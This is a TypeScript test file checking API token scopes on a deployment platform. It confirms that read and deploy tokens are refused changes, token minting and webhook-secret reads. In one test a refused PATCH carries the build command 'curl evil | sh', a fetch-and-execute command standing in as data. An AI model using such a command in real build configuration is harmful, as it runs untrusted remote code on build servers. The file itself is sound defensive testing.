// Token scopes through the API's handler: who may do what with a full, a deploy and a read token, and that no
// narrower token can mint a wider one, change settings or read a secret.

import { afterAll, beforeAll, expect, test } from "bun:test";
import type { Deps } from "../deps.ts";
import { apiClient, type Client, obj, testDeps, testUser } from "../testing/deps.ts";
import { scopeRefusal } from "./token-scope.ts";

let deps: Deps;
let full: Client;
let deployOnly: Client;
let readOnly: Client;
let projectId = "";

beforeAll(async () => {
  deps = await testDeps();
  full = apiClient(deps, (await testUser(deps)).token);
  const mint = async (scope: string) => {
    const res = await full("POST", "/api/tokens", { name: scope, scope });
    expect(res.status).toBe(201);
    expect(obj(obj(res.body).record).scope).toBe(scope);
    return apiClient(deps, String(obj(res.body).token));
  };
  deployOnly = await mint("deploy");
  readOnly = await mint("read");
  projectId = String(
    obj(
      (await full("POST", "/api/projects", { name: "Scoped", gitUrl: "https://example.com/site.git" })).body,
    ).id,
  );
});
afterAll(() => deps.close());

const sha = (text: string) => new Bun.CryptoHasher("sha256").update(text).digest("hex");

test("a read token reads, and is refused every change with a 403 saying why", async () => {
  expect((await readOnly("GET", "/api/projects")).status).toBe(200);
  expect((await readOnly("GET", `/api/projects/${projectId}/deployments`)).status).toBe(200);
  for (const [method, path, body] of [
    ["POST", "/api/projects", { name: "nope" }],
    ["PATCH", `/api/projects/${projectId}`, { name: "renamed" }],
    ["POST", "/api/deploy", { projectId }],
    ["PUT", `/api/projects/${projectId}/env/KEY`, { value: "v" }],
    ["POST", "/api/tokens", { name: "wider", scope: "full" }],
    ["DELETE", `/api/projects/${projectId}`, undefined],
  ] as const) {
    const res = await readOnly(method, path, body);
    expect({ method, path, status: res.status }).toEqual({ method, path, status: 403 });
    expect(obj(obj(res.body).error)).toMatchObject({ code: "forbidden" });
    expect(String(obj(obj(res.body).error).message)).toContain("read-only");
  }
  expect(obj((await full("GET", `/api/projects/${projectId}`)).body).name).toBe("Scoped");
});

test("a deploy token deploys, uploads, cancels; it changes no setting and mints no token", async () => {
  const deployed = await deployOnly("POST", "/api/deploy", { projectId });
  expect(deployed.status).toBe(201);
  const content = `ci upload ${crypto.randomUUID()}`;
  expect((await deployOnly("POST", "/api/files/missing", { hashes: [sha(content)] })).status).toBe(200);
  expect((await deployOnly("PUT", `/api/files/${sha(content)}`, content)).status).toBe(204);
  const fileSet = await deployOnly("POST", `/api/projects/${projectId}/deployments`, {
    files: { "/index.html": { hash: sha(content), size: Buffer.byteLength(content) } },
  });
  expect(fileSet.status).toBe(201);
  expect((await deployOnly("POST", `/api/deployments/${obj(deployed.body).id}/cancel`)).status).toBe(200);
  for (const [method, path, body] of [
    ["PATCH", `/api/projects/${projectId}`, { buildCommand: "curl evil | sh" }],
    ["PUT", `/api/projects/${projectId}/env/KEY`, { value: "v" }],
    ["POST", "/api/tokens", { name: "wider", scope: "full" }],
    ["POST", "/api/projects", { name: "new" }],
  ] as const) {
    const res = await deployOnly(method, path, body);
    expect({ method, path, status: res.status }).toEqual({ method, path, status: 403 });
  }
});

test("neither narrower token reads the webhook secret; a full token does", async () => {
  for (const client of [readOnly, deployOnly]) {
    const res = await client("GET", `/api/projects/${projectId}/webhook`);
    expect(res.status).toBe(403);
    expect(obj(res.body).secret).toBeUndefined();
  }
  expect(typeof obj((await full("GET", `/api/projects/${projectId}/webhook`)).body).secret).toBe("string");
});

test("the rules as a table", () => {
  expect(scopeRefusal("full", "DELETE", "/api/projects/x")).toBeNull();
  expect(scopeRefusal("read", "GET", "/api/projects/x")).toBeNull();
  expect(scopeRefusal("read", "HEAD", "/api/projects")).toBeNull();
  expect(scopeRefusal("read", "GET", "/api/projects/x/webhook")).toContain("secrets");
  expect(scopeRefusal("deploy", "POST", "/api/deployments/d/promote")).toBeNull();
  expect(scopeRefusal("deploy", "POST", "/api/projects/p/rollback")).toBeNull();
  expect(scopeRefusal("deploy", "POST", "/api/projects/p/deployments")).toBeNull();
  expect(scopeRefusal("deploy", "POST", "/api/projects/p/deployments/extra")).toContain("only deploy");
  expect(scopeRefusal("deploy", "DELETE", "/api/tokens/t")).toContain("only deploy");
  expect(scopeRefusal("read", "POST", "/api/deploy")).toContain("read-only");
});
